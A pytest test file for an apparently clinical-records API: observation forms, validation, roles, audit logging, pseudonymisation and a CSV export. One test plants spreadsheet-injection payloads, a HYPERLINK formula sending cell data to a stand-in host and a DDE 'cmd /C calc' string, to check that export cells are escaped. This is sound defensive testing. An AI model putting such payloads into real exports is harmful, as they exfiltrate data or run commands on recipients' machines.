"""Forms, observations and their table, through the interface."""

from __future__ import annotations

import csv
import datetime as dt
import io
import logging
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from sqlalchemy import select, update
from starlette.testclient import TestClient

from condyle.archive.archive import Archive
from condyle.archive.clinical_tables import Observation
from condyle.archive.studies import get_study
from condyle.archive.tables import AuditEntry, Patient
from condyle.service.app import create_app
from condyle.service.deps import Deps
from condyle.service.live.form_shelf import FormShelf
from condyle.service.schemas.base import Role
from condyle.workflows.clinic.observation_table import safe_cell

from .conftest import Client, LogIn
from .studies_of import put_run, put_study

BACK = {"leg-pain": 7, "saddle-anaesthesia": True, "straight-leg-raise.left": 35.5}
DAY = "2030-01-06"
TOMORROW = "2030-01-08"
"""Of the clock that stands: it may be today where a clinic is a day ahead of UTC."""
EXPORT = "/api/v1/observations/export"


def patient_of(archive: Archive, study_id: int) -> int:
    with archive.database.read() as session:
        return get_study(session, study_id).patient_id


@pytest.fixture
def study(archive: Archive) -> int:
    number = put_study(archive)
    put_run(archive, number)
    return number


@pytest.fixture
def place(archive: Archive, study: int) -> str:
    return f"/api/v1/patients/{patient_of(archive, study)}/observations"


def observe(client: Client, place: str, **changed: Any) -> Any:
    body = {"form": "back", "observed_on": DAY, "values": BACK, "text": ""} | changed
    return client.post(place, json=body)


def table(client: Client) -> list[dict[str, str]]:
    answer = client.get(EXPORT)
    assert answer.status_code == 200, answer.text
    assert answer.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def acts(archive: Archive, action: str) -> list[AuditEntry]:
    with archive.database.read() as session:
        query = select(AuditEntry).where(AuditEntry.action == action).order_by(AuditEntry.id)
        return list(session.scalars(query))


def test_the_forms_come_in_the_readers_language(clinician: Client) -> None:
    english = clinician.get("/api/v1/forms").json()
    spanish = clinician.get("/api/v1/forms", headers={"Accept-Language": "es"}).json()
    assert [form["name"] for form in english] == ["back", "knee", "ankle", "reference"]
    assert (english[0]["title"], spanish[0]["title"]) == ("Back", "Espalda")
    saddle = next(it for it in spanish[0]["fields"] if it["name"] == "saddle-anaesthesia")
    assert saddle["label"] == "Anestesia en silla de montar"
    assert saddle["red_flag"] and saddle["section"] == "Signos de alarma"


def test_an_observation_is_kept_and_shown_in_words(clinician: Client, place: str) -> None:
    answer = observe(clinician, place, text="after a fall", observed_on=TOMORROW)
    assert answer.status_code == 201, answer.text
    (entry,) = clinician.get(place).json()
    assert entry == answer.json()
    assert entry["values"] == BACK
    assert entry["shown"] == [
        ["Leg pain", "7 / 10"],
        ["Saddle anaesthesia", "yes"],
        ["Straight-leg raise (left)", "35.5°"],
    ]
    assert entry["red_flags"] == ["Saddle anaesthesia"]
    assert (entry["form_title"], entry["text"], entry["by"]) == (
        "Back",
        "after a fall",
        "The clinician",
    )


def test_a_spaniard_reads_the_same_observation_in_spanish(clinician: Client, place: str) -> None:
    observe(clinician, place)
    (entry,) = clinician.get(place, headers={"Accept-Language": "es"}).json()
    assert entry["shown"][2] == ["Elevación de la pierna recta (izquierda)", "35,5°"]
    assert entry["red_flags"] == ["Anestesia en silla de montar"]


def test_free_text_needs_no_form(clinician: Client, place: str) -> None:
    answer = observe(clinician, place, form="note", values={}, text="Walks with a stick.")
    assert answer.status_code == 201
    entry = answer.json()
    assert (entry["form"], entry["form_title"], entry["form_version"]) == ("note", "Note", "")
    assert entry["shown"] == [] and entry["text"] == "Walks with a stick."


UNFIT: list[tuple[dict[str, Any], str]] = [
    ({"values": {"leg-pain": 11}}, "leg-pain: needs a whole number from 0 to 10"),
    ({"values": {"secret-name": 1}}, "'secret-name': no such field"),
    ({"values": {}}, "neither an answer nor text"),
    ({"observed_on": "2030-01-09"}, "a day that is yet to come"),
    ({"observed_on": "1970-05-03"}, "a day before the patient was born"),
    ({"form": "note", "text": "x"}, "values: a note has none"),
    ({"text": "a\u0000b"}, "text: control characters"),
    ({"study": 2**31}, "body.study"),
]


def test_what_does_not_fit_is_refused_and_nothing_is_kept(
    clinician: Client, place: str, archive: Archive
) -> None:
    for changed, found in UNFIT:
        answer = observe(clinician, place, **changed)
        assert answer.status_code == 422
        assert found in answer.json()["found"]
    assert clinician.get(place).json() == []
    assert acts(archive, "observation.added") == []


def test_all_errors_are_told_at_once_without_what_was_sent(clinician: Client, place: str) -> None:
    values = {"leg-pain": "Ana Moreau", "side": "Ana Moreau", "odi-total": 101}
    found = observe(clinician, place, values=values).json()["found"]
    assert [part.split(":")[0] for part in found.split("; ")] == ["leg-pain", "side", "odi-total"]
    assert "Ana" not in found


def test_a_form_that_is_not_there_is_told_with_those_that_are(
    clinician: Client, place: str
) -> None:
    answer = observe(clinician, place, form="shoulder")
    assert answer.status_code == 404
    assert answer.json()["needed"] == "one of: ankle, back, knee, reference"


def test_an_observation_said_anew_leaves_the_first_in_its_place(
    clinician: Client, place: str
) -> None:
    first = observe(clinician, place).json()["id"]
    second = observe(clinician, place, values={"leg-pain": 3}, supersedes=first).json()
    entries = {entry["id"]: entry for entry in clinician.get(place).json()}
    assert entries[first]["superseded"] and entries[first]["values"] == BACK
    assert not entries[second["id"]]["superseded"]
    assert observe(clinician, place, supersedes=first).status_code == 409


def test_what_is_withdrawn_stays_with_who_withdrew_it(clinician: Client, place: str) -> None:
    first = observe(clinician, place).json()["id"]
    answer = clinician.delete(f"/api/v1/observations/{first}")
    assert answer.status_code == 200
    entries = {entry["id"]: entry for entry in clinician.get(place).json()}
    gone = entries[answer.json()["id"]]
    assert gone["withdrawn"] and gone["supersedes"] == first and gone["by"] == "The clinician"
    assert entries[first]["superseded"] and entries[first]["values"] == BACK
    assert clinician.delete(f"/api/v1/observations/{first}").status_code == 409
    assert clinician.delete(f"/api/v1/observations/{gone['id']}").status_code == 409
    assert table(clinician) == []


def test_a_study_or_observation_of_another_patient_is_not_there(
    clinician: Client, place: str, archive: Archive
) -> None:
    other = put_study(archive, 2, identifier="P-200")
    elsewhere = f"/api/v1/patients/{patient_of(archive, other)}/observations"
    mine = observe(clinician, place).json()["id"]
    assert observe(clinician, place, study=other).status_code == 404
    assert observe(clinician, elsewhere, supersedes=mine).status_code == 404
    assert clinician.get("/api/v1/patients/9999/observations").status_code == 404


def test_only_clinicians_observe(log_in: LogIn, place: str, archive: Archive) -> None:
    roles: tuple[Role, ...] = ("viewer", "researcher", "administrator", "annotator")
    for client in map(log_in, roles):
        assert observe(client, place).status_code == 403
        assert client.delete("/api/v1/observations/1").status_code == 403
    with archive.database.read() as session:
        assert session.scalars(select(Observation)).all() == []


def test_researchers_get_neither_days_nor_words(
    clinician: Client, researcher: Client, place: str
) -> None:
    values = {"acl": "complete", "performed-on": "2029-11-02", "found": "Moreau: torn"}
    observe(clinician, place, form="reference", values=values, text="Ana said")
    (entry,) = researcher.get(place).json()
    assert entry["values"] == {"acl": "complete"}
    assert entry["shown"] == [["Anterior cruciate ligament", "complete tear"]]
    assert (entry["observed_on"], entry["text"]) == (None, "")
    assert entry["by"].startswith("reader-")
    text = researcher.get(EXPORT).text
    assert "complete" in text
    for identifying in ("Moreau", "P-100", "2029-11-02", DAY, "2029-12-24", "Ana said"):
        assert identifying not in text
        assert identifying in clinician.get(EXPORT).text or identifying == "Moreau"


def test_every_act_is_in_the_audit_log_of_the_patient(
    clinician: Client, place: str, archive: Archive, study: int
) -> None:
    first = observe(clinician, place, text="Ana said").json()["id"]
    clinician.get(place)
    clinician.get(place)
    clinician.delete(f"/api/v1/observations/{first}")
    clinician.get(EXPORT)
    patient = patient_of(archive, study)
    (added,) = acts(archive, "observation.added")
    assert (added.patient_id, added.subject_id, added.details["form"]) == (
        patient,
        str(first),
        "back",
    )
    assert "Ana" not in str(added.details)
    assert [act.patient_id for act in acts(archive, "patient.viewed")] == [patient]
    assert [act.subject_id for act in acts(archive, "observation.withdrawn")] == [str(first)]
    (exported,) = acts(archive, "observations.exported")
    assert exported.details == {"rows": 0, "pseudonymous": False}


def test_an_observation_whose_act_cannot_be_logged_is_not_kept(
    clinician: Client, place: str, archive: Archive, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_: Any) -> None:
        raise OSError("the log is gone")

    monkeypatch.setattr("condyle.service.routes.observations.audit.append", fail)
    assert observe(clinician, place).status_code == 500
    with archive.database.read() as session:
        assert session.scalars(select(Observation)).all() == []


def test_the_table_has_a_row_for_each_finding_and_day(
    clinician: Client, place: str, study: int
) -> None:
    observe(clinician, place, values={"leg-pain": 7})
    observe(clinician, place, form="knee", values={"lachman.right": "2"})
    observe(clinician, place, observed_on="2029-12-20", values={"leg-pain": 9})
    rows = table(clinician)
    assert len(rows) == 3 * 2
    assert {row["patient"] for row in rows} == {"P-100"}
    grade = [row for row in rows if row["finding"] == "pfirrmann-grade"]
    assert [row["observed_on"] for row in grade] == ["2029-12-20", DAY]
    assert [row["days_from_study"] for row in grade] == ["-4", "13"]
    assert [row["back.leg-pain [{score}]"] for row in grade] == ["9", "7"]
    assert [row["knee.lachman.right"] for row in grade] == ["", "2"]
    assert {row["study"] for row in rows} == {str(study)}
    assert (grade[0]["model_value"], grade[0]["model_probability"]) == ("4", "0.6")
    assert (grade[0]["bundle"], grade[0]["version"]) == ("lumbar-grading", "0.1.0")


def test_the_table_keeps_what_readers_say_apart_from_the_models(
    clinician: Client, place: str, study: int
) -> None:
    observe(clinician, place)
    found = clinician.get(f"/api/v1/studies/{study}").json()["findings"]
    grade = next(it["id"] for it in found if it["name"] == "pfirrmann-grade")
    said = {"kind": "grade", "finding": grade, "grade": 2}
    answer = clinician.post(f"/api/v1/studies/{study}/corrections", json=said)
    assert answer.status_code in (200, 201), answer.text
    rows = {row["finding"]: row for row in table(clinician)}
    read = rows["pfirrmann-grade"]
    assert (read["model_value"], read["reader_value"], read["reader_state"]) == (
        "4",
        "2",
        "changed",
    )
    unread = rows["disc-herniation"]
    assert (unread["model_value"], unread["reader_value"], unread["reader_state"]) == (
        "true",
        "",
        "",
    )


def test_the_table_has_what_readers_rejected_and_added(
    clinician: Client, place: str, study: int
) -> None:
    observe(clinician, place)
    found = clinician.get(f"/api/v1/studies/{study}").json()["findings"]
    call = next(it["id"] for it in found if it["name"] == "disc-herniation")
    added = {"name": "disc-narrowing", "level": "L5-S1", "value": True, "drawn": None}
    for said in ({"kind": "reject", "finding": call}, {"kind": "add", "finding_added": added}):
        answer = clinician.post(f"/api/v1/studies/{study}/corrections", json=said)
        assert answer.status_code in (200, 201), answer.text
    rows = {row["finding"]: row for row in table(clinician)}
    rejected, new = rows["disc-herniation"], rows["disc-narrowing"]
    assert (rejected["reader_state"], rejected["reader_value"]) == ("rejected", "")
    assert (rejected["model_value"], rejected["model_level"]) == ("true", "L4-L5")
    assert (new["reader_state"], new["reader_value"], new["reader_level"]) == (
        "added",
        "true",
        "L5-S1",
    )
    assert (new["bundle"], new["model_value"], new["finding_id"]) == ("", "", "")


def test_a_form_filled_in_twice_a_day_makes_two_rows(clinician: Client, place: str) -> None:
    first = observe(clinician, place, values={"leg-pain": 7}, text="morning").json()["id"]
    second = observe(clinician, place, values={"leg-pain": 4}, text="evening").json()["id"]
    note = observe(clinician, place, form="note", values={}, text="noon").json()["id"]
    rows = [row for row in table(clinician) if row["finding"] == "pfirrmann-grade"]
    assert [row["observations"] for row in rows] == [f"{first} {note}", str(second)]
    assert [row["text"] for row in rows] == ["morning\nnoon", "evening"]


def test_an_observation_of_a_study_is_joined_to_no_other(
    clinician: Client, place: str, study: int, archive: Archive
) -> None:
    second = put_study(archive, 2)
    put_run(archive, second, number=2)
    observe(clinician, place, study=study, values={"leg-pain": 7})
    assert {row["study"] for row in table(clinician)} == {str(study)}
    observe(clinician, place, values={"back-pain": 2})
    assert {row["study"] for row in table(clinician)} == {str(study), str(second)}


def test_what_has_no_finding_beside_it_is_in_the_table_all_the_same(
    clinician: Client, archive: Archive
) -> None:
    bare = put_study(archive, 3, identifier="P-300")
    place = f"/api/v1/patients/{patient_of(archive, bare)}/observations"
    observe(clinician, place, values={"odi-total": 42})
    (row,) = table(clinician)
    assert (row["patient"], row["finding"], row["back.odi-total [%]"]) == ("P-300", "", "42")


def test_runs_in_silent_mode_are_not_in_the_table(clinician: Client, archive: Archive) -> None:
    silent = put_study(archive, 4, identifier="P-400")
    put_run(archive, silent, number=4, hidden=True)
    place = f"/api/v1/patients/{patient_of(archive, silent)}/observations"
    observe(clinician, place)
    assert [row["finding"] for row in table(clinician)] == [""]


def test_no_cell_of_the_table_is_a_formula(
    clinician: Client, place: str, archive: Archive, study: int
) -> None:
    attack = '=HYPERLINK("http://example.invalid/"&A1,"x")'
    observe(clinician, place, text=attack)
    with archive.database.write() as session:
        session.execute(update(Patient).values(identifier="+1+cmd|' /C calc'!A0"))
    (row, *_) = table(clinician)
    assert row["text"] == "'" + attack
    assert row["patient"].startswith("'+1")
    assert row["days_from_study"] == "13"


def test_the_table_shows_an_old_form_as_it_was(
    clinician: Client, place: str, home: Path, deps: Deps
) -> None:
    observe(clinician, place)
    (home / "forms").mkdir()
    (home / "forms" / "back.yaml").write_text(OWN.format(name="back", unit="m"), "utf-8")
    clinician = Client(create_app(replace(deps, forms=FormShelf())), base_url="http://localhost")
    clinician.log_in("clinician")
    assert observe(clinician, place, values=BACK).status_code == 422
    entry = observe(clinician, place, values={"walk": 90}).json()
    assert entry["shown"] == [["Walk", "90 m"]]
    old = clinician.get(place).json()[1]
    assert old["shown"][0] == ["Leg pain", "7 / 10"]
    rows = [row for row in table(clinician) if row["finding"] == "pfirrmann-grade"]
    assert [row["back.walk [m]"] for row in rows] == ["", "90"]
    assert [row["back.leg-pain [{score}]"] for row in rows] == ["7", ""]


OWN = """
schema: condyle.form/1
name: {name}
version: "2"
title: {{en: Own}}
notice: {{en: Ours.}}
sections:
- title: {{en: All}}
  fields:
  - {{name: walk, label: {{en: Walk}}, kind: number, unit: {unit}, low: 0, high: 100}}
"""


def test_a_broken_form_is_named_at_the_start_and_left_out(
    app: FastAPI, home: Path, caplog: pytest.LogCaptureFixture, log_in: LogIn
) -> None:
    folder = home / "forms"
    folder.mkdir()
    (folder / "gait.yaml").write_text(OWN.format(name="gait", unit="m"), "utf-8")
    (folder / "hip.yaml").write_text(OWN.format(name="hip", unit="metres"), "utf-8")
    with caplog.at_level(logging.ERROR), TestClient(app):
        pass
    assert "The form 'hip' cannot be used." in caplog.text
    assert "sections.0.fields.0.unit" in caplog.text and "'gait'" not in caplog.text
    names = [form["name"] for form in log_in("viewer").get("/api/v1/forms").json()]
    assert names == ["back", "knee", "ankle", "reference", "gait"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("  @SUM(A1)", "'  @SUM(A1)"),
        ("-2", "'-2"),
        ("\uff1d1", "'\uff1d1"),
        ("\t=1", "'\t=1"),
        (-2.5, -2.5),
        (True, "true"),
        (None, ""),
        (dt.date(2030, 1, 2), "2030-01-02"),
        ("a=b", "a=b"),
    ],
)
def test_only_texts_that_begin_as_a_formula_are_changed(value: Any, cell: Any) -> None:
    assert safe_cell(value) == cell
